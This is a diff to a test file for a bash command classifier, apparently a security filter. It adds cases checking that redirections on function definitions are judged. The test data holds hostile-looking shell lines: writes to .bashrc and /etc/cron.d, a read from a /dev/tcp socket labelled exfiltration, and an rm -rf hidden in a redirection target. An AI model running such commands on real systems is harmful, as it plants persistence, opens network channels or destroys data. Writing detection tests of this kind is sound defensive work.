@@ -1,7 +1,7 @@
 // The classifier's parse must agree with bash's own reading of the line (src/shell/bash-expansions.ts):
 // every command substitution bash runs is one the walk judged, every here-document ends where bash ends
-// it (docs/security.md classes 160, 161). Real bash is the judge in src/shell/bash-differential.test.ts;
-// these are the forms found, without bash.
+// it, and redirections are judged wherever they are attached (docs/security.md classes 160-162). Real
+// bash is the judge in src/shell/bash-differential.test.ts; these are the forms found, without bash.
 
 import { describe, expect, it } from 'vitest';
 import { findExpansions } from './bash-expansions.js';
@@ -98,6 +98,25 @@ describe('a here-document bash ends elsewhere than the parser is unknown (class 
   it('a body line that only starts with the delimiter does not end it', () => {
     // bash: the document never ends (`EOF && touch x` is part of it); tree-sitter ended it there.
     expect(cats('cat <<EOF\nbody\nEOF && touch /tmp/x')).toContain('unknown');
+  });
+});
+
+describe('redirections on a function definition are judged (class 162)', () => {
+  it.each([
+    ["f() { echo 'touch /tmp/x'; } > .bashrc; f", 'privilege'],
+    ['f() { echo x; } >> /etc/cron.d/x; f', 'privilege'],
+    ['f() { :; } > notes.txt', 'write'],
+    ['function f { :; } 2> notes.txt; f', 'write'],
+    ['f() ( : ) &> notes.txt; f', 'write'],
+    ['f() { cat; } < /dev/tcp/203.0.113.9/80; f', 'exfiltration'],
+    ['f() { :; } > $(rm -rf x); f', 'destructive'],
+  ])('%j is %s', (line, category) => {
+    expect(cats(line)).toContain(category);
+  });
+
+  it('the body reads the redirected input', () => {
+    const c = classifyShellCommand({ line: 'f() { sh; } < script.sh; f' });
+    expect(c.categories).toContain('unknown');
   });
 });
 
